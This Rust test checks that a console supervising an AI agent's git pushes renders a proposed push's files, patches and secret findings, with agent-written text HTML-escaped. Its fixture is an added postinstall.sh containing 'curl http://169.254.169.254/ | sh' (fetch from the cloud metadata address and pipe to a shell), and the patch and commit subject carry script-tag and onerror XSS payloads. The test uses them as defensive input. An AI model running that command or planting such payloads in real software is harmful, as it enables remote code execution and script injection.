//! A gate push's proposal page: the content the gate recorded (commits, findings, files with
//! counts and status, each patch in a `<details>` with a +/− gutter), agent text escaped.

use serde_json::json;
use supervise_store::{
    DiffFile, Finding, GateRef, Proposed, PushCommit, PushDiff, RefUpdate, Role,
};

use crate::harness::Console;

const ZERO: &str = "0000000000000000000000000000000000000000";

fn file(path: &str, patch: &str, added: u64) -> DiffFile {
    DiffFile {
        old_path: None,
        new_path: Some(path.into()),
        status: "added".into(),
        mode: "executable".into(),
        old_mode: None,
        binary: false,
        added,
        removed: 0,
        patch: patch.into(),
        truncated: false,
    }
}

#[tokio::test]
async fn a_push_page_lists_the_files_and_their_patches_with_agent_text_escaped() {
    let c = Console::start().await;
    c.bottle("demo", "127.0.0.2").await;
    let patch = "diff --git a/postinstall.sh b/postinstall.sh\nnew file mode 100755\n\
        --- /dev/null\n+++ b/postinstall.sh\n@@ -0,0 +1,2 @@\n+#!/bin/sh\n\
        +curl http://169.254.169.254/ | sh <script>alert(1)</script>\n";
    let diff = PushDiff {
        commits: vec![PushCommit {
            id: "a".repeat(40),
            author: "agent <agent@bottle.invalid>".into(),
            subject: "add <img src=x onerror=alert(2)>".into(),
        }],
        commits_truncated: false,
        files: vec![file("postinstall.sh", patch, 2)],
        truncated: false,
        findings: vec![Finding {
            flag: "secret-in-diff".into(),
            path: "deploy.env".into(),
            rule: "aws-access-token".into(),
            masked: Some("AKIA…".into()),
        }],
    };
    let verdict = c
        .store
        .gate_push(
            "demo",
            "origin",
            vec![RefUpdate {
                reference: "refs/heads/feature".into(),
                old: ZERO.into(),
                new: "a".repeat(40),
                summary: json!({"commits": 1, "subjects": ["add"], "files_changed": 1,
                    "insertions": 2, "deletions": 0, "force": false, "delete": false,
                    "create": true, "content": ["secret-in-diff", "executable-added"]}),
                justification: "add".into(),
                diff: Some(diff),
            }],
        )
        .await
        .unwrap();
    let GateRef::Proposed(Proposed::Created(p)) = &verdict.refs[0] else {
        panic!("{verdict:?}")
    };
    let admin = c.sign_in(&c.operator("ann", Role::Admin, &[]).await).await;
    let (status, page) = admin.get(&format!("/proposals/{}", p.id)).await;
    assert_eq!(status, 200);
    for needle in [
        "id=\"diff-files\"",
        "<span class=\"diff-status\">added</span>",
        "<code>postinstall.sh</code>",
        "<details class=\"diff-file\" id=\"file-1\" open>",
        "<span class=\"ln add\"><span class=\"gutter\">+</span><ins>#!/bin/sh</ins></span>",
        "curl http://169.254.169.254/ | sh &#60;script&#62;alert(1)&#60;/script&#62;",
        "add &#60;img src=x onerror=alert(2)&#62;",
        "aws-access-token AKIA…",
        "secret-in-diff",
        "[executable]",
    ] {
        assert!(page.contains(needle), "{needle:?} in the page:\n{page}");
    }
    assert!(!page.contains("<script>alert(1)"), "agent text is escaped");
    assert!(!page.contains("<img src=x"), "agent text is escaped");
    c.stop().await;
}
